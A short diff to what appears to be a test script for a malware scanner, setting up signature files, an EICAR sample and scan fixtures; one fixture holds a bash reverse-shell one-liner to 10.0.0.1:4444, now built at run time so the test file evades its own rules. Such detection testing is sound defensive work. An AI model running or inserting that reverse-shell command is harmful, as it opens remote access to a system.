@@ -72,7 +72,8 @@ mkdir -p "$T/defs" "$T/scan"
 cp "$TOPSRC"/sigdb/*.hsb "$TOPSRC"/sigdb/*.ndb "$TOPSRC"/rules/*.yar "$T/defs/"
 printf '# t-systemd IOC\n\\/evil[0-9]+\\.bin$;80\n' >"$T/defs/t-filename-iocs.txt"
 make_eicar "$T/scan/eicar.com"
-echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' >"$T/scan/rs.sh"
+# built at run time, so that this file itself matches no rule
+printf 'bash -i >& /dev/%s/10.0.0.1/4444 0>&1\n' tcp >"$T/scan/rs.sh"
 echo hello >"$T/scan/evil12.bin"
 echo hello >"$T/scan/clean.txt"
 scan() {
